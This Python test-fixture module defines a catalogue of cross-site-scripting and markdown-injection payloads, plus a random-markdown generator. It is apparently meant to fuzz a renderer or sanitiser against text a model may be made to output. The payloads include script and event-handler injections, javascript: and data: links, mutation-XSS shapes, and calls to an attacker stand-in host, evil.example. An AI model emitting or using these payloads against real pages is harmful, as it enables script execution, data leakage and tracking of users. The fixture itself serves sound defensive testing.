"""Markdown that means harm, and markdown at random: what a model may write, or be made to write."""

from __future__ import annotations

import random

# Each would call `pwned` if it were believed. Shapes known from renderers, sanitisers and browsers.
ATTACKS = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<img src='x' onerror='pwned()'",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data='javascript:pwned()'></object>",
    "<embed src=javascript:pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<a href=javascript:pwned()>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/) }</style>",
    "<p style='background:url(//evil.example/)'>x</p>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml version='1.0'?><script>pwned()</script>",
    "</div></slm2-chat><script>pwned()</script>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java\tscript:pwned())",
    "[x](java&Tab;script:pwned())",
    "[x](&#x6A;avascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](<javascript:pwned()>)",
    "[x]( javascript:pwned())",
    "[x](\x01javascript:pwned())",
    "[x](vbscript:pwned())",
    "[x](data:text/html,<script>pwned()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml,<svg onload=pwned()>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](/logout)",
    "[x](//evil.example/)",
    "[x](https://ok.example/ \"'onmouseover='pwned()\")",
    '[x](https://ok.example/"onmouseover="pwned())',
    '[x](https://ok.example/ "\\" onmouseover=pwned() x=\\"")',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:pwned())",
    '![x" onerror="pwned()](https://evil.example/p)',
    "![x](data:image/png;base64,AAAA)",
    "[![x](https://evil.example/p)](https://ok.example/)",
    "[a ![b [c](https://c.example/) d](https://evil.example/p) e](https://ok.example/)",
    "<javascript:pwned()>",
    "<https://ok.example/<script>pwned()</script>>",
    "[x]: javascript:pwned()\n\n[x]",
    "[x]: https://ok.example/ '\"><img src=x onerror=pwned()>'\n\n[x]",
    '```"><img src=x onerror=pwned()>\nx\n```',
    "```<script>pwned()</script>\n<script>pwned()</script>\n```",
    "`<img src=x onerror=pwned()>`",
    "    <img src=x onerror=pwned()>",
    "| <img src=x onerror=pwned()> | b |\n|:-:|--:|\n| <script>pwned()</script> | [x](javascript:pwned()) |",
    "1. <script>pwned()</script>\n   - <svg onload=pwned()>",
    "> <img src=x onerror=pwned()>\n\n> [x](javascript:pwned())",
    "# <img src=x onerror=pwned()>",
    "&lt;img src=x onerror=pwned()&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "\\<script>pwned()\\</script>",
    "\x00<scr\x00ipt>pwned()</scr\x00ipt>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "**<img src=x onerror=pwned()**>",
    "\u202e<script>pwned()</script>",
    "\u2028<script>pwned()</script>",
    "<a id=attributes><a id=attributes name=nodeType>",
    "<form id=x><input name=attributes></form>",
    "<x" + "<x" * 200 + " onclick=pwned()>",
)

# What random markdown is made of: marks, pieces of attacks, and words.
PIECES = (
    *"*_`~#>-+|[]()!<>\\&;:\"'=/. \t\n\r",
    *(
        "\n\n",
        "\r\n",
        "```",
        "~~~",
        "---",
        "===",
        "1. ",
        "- ",
        "    ",
        "| a | b |\n|--|:-:|\n",
        "](",
        "![",
        "<!--",
    ),
    *("<script>", "</script>", "<img src=x onerror=pwned()>", "<svg/onload=pwned()>", "javascript:pwned()"),
    *(
        "https://ok.example/",
        "data:text/html,",
        "&#106;",
        "&lt;",
        "&quot;",
        "onerror=pwned()",
        "<style>",
        "</p>",
    ),
    *(
        "<math>",
        "<template>",
        "<iframe srcdoc='",
        "<a href=",
        "é",
        "שלום",
        "😀",
        "\ud800",
        "\x00",
        "\u2028",
        "a",
        "word",
    ),
)


def random_markdown(seed: int, n: int) -> list[str]:
    """`n` texts of up to 40 pieces, some with a whole attack in them."""
    draw = random.Random(seed)
    texts = []
    for _ in range(n):
        pieces = draw.choices(PIECES, k=draw.randrange(1, 40))
        if draw.random() < 0.3:
            pieces.insert(draw.randrange(len(pieces) + 1), draw.choice(ATTACKS))
        texts.append("".join(pieces))
    return texts
